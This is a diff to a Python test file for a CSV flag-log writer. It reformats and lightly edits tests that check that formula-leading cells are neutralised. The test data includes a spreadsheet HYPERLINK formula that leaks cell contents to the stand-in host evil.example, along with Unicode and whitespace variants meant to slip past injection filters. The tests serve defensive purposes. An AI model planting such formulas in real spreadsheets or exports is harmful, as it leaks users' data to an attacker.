@@ -46,7 +46,7 @@ def test_header_and_every_row_have_the_same_six_columns(tmp_path: Path) -> None:
         ["c2", "4", "second", "Off topic", "2026-11-30T19:53:36Z", ""],
     ]
     assert list(COLUMNS) == ["conversation", "index", "message", "flag", "timestamp", "user"]
-    assert log.read() == [dict(zip(COLUMNS, row)) for row in rows[1:]]
+    assert log.read() == [dict(zip(COLUMNS, row, strict=False)) for row in rows[1:]]
 
 
 def test_file_is_utf8_with_one_bom_and_crlf_records(tmp_path: Path) -> None:
@@ -118,11 +118,28 @@ def test_messages_round_trip_exactly(tmp_path: Path, message: str) -> None:
 
 @pytest.mark.parametrize(
     "lead",
-    ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\n=", "\u00a0=", "\ufeff=", "\u200b+", " \u3000@", "\uff1d", "\uff0b", "\u200b\uff0d"],
+    [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t",
+        "\r",
+        "\n",
+        " =",
+        "\n=",
+        "\u00a0=",
+        "\ufeff=",
+        "\u200b+",
+        " \u3000@",
+        "\uff1d",
+        "\uff0b",
+        "\u200b\uff0d",
+    ],
 )
 @pytest.mark.parametrize("column", ["conversation", "message", "flag", "user"])
 def test_formula_leading_cells_are_neutralised(tmp_path: Path, lead: str, column: str) -> None:
-    value = f"{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    value = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
     log = FlagLog(tmp_path)
     write_one(log, **{column: value})
 
